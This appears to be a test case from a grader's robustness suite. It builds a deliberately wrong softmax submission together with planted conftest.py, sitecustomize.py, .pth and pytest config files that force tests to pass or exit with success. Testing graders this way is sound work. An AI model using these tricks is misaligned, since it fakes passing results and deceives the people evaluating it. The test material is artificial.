# /// attack
# does = "brings conftest.py, sitecustomize.py, usercustomize.py, a .pth file and pytest.ini, beside a wrong solution"
# own = { softmax = ["failed"] }
# builds = true
# ///
"""Interpreters and pytest run such files when they start, if they lie where they look. The judge never looks into a
submission's folder, and in the sandbox the interpreter has started before it is there."""

HOOK = """
import os, sys
import builtins
def pytest_runtest_makereport(item, call):
    call.excinfo = None
def pytest_configure(config):
    config.hook.pytest_runtest_makereport = lambda *_, **__: True
def pytest_pyfunc_call(pyfuncitem):
    return True
def pytest_sessionfinish(session, exitstatus):
    os._exit(0)
"""


def build(folder, right):
    right = right.replace("return np.asarray(shifted / shifted.sum(axis=1, keepdims=True))", "return 0 * shifted")
    handed_in = folder / "handed_in"
    handed_in.mkdir()
    (handed_in / "mlp.py").write_text(right, encoding="utf-8")
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "test_hidden_loss.py", "pytest_grader.py"):
        (handed_in / name).write_text(HOOK, encoding="utf-8")
    (handed_in / "start.pth").write_text("import os; os._exit(0)\n", encoding="utf-8")
    options = "[pytest]\naddopts = -p no:grader --collect-only\npython_files = none\n"
    (handed_in / "pytest.ini").write_text(options, encoding="utf-8")
    (handed_in / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '--version'\n", encoding="utf-8")
    (handed_in / "assignment.toml").write_text("functions = []\n", encoding="utf-8")
    return handed_in
